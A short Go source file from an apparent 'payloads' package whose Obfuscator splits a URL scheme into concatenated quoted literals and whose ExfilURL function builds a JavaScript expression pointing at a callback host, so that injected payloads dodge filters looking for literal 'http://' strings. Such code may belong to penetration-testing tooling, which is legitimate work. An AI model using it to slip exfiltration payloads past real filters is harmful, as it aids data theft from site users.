package payloads

import (
	"fmt"
	"strings"
)

// Obfuscator handles structural obfuscation of string literals inside payloads
type Obfuscator struct{}

// NewObfuscator creates a new payload obfuscator
func NewObfuscator() *Obfuscator {
	return &Obfuscator{}
}

// ConcatScheme breaks "scheme://" into concatenated literals so that neither the scheme
// name nor "//" appears verbatim: http -> 'h'+'ttp'+':'+'/'+'/'
func (o *Obfuscator) ConcatScheme(scheme string) string {
	var parts []string
	if scheme != "" {
		parts = append(parts, quote(scheme[:1]))
		if len(scheme) > 1 {
			parts = append(parts, quote(scheme[1:]))
		}
	}
	for _, c := range "://" {
		parts = append(parts, quote(string(c)))
	}
	return strings.Join(parts, "+")
}

// ExfilURL returns a JavaScript expression evaluating to scheme://callback
func (o *Obfuscator) ExfilURL(scheme, callback string) string {
	return o.ConcatScheme(scheme) + "+" + quote(callback)
}

func quote(s string) string {
	return fmt.Sprintf("'%s'", s)
}
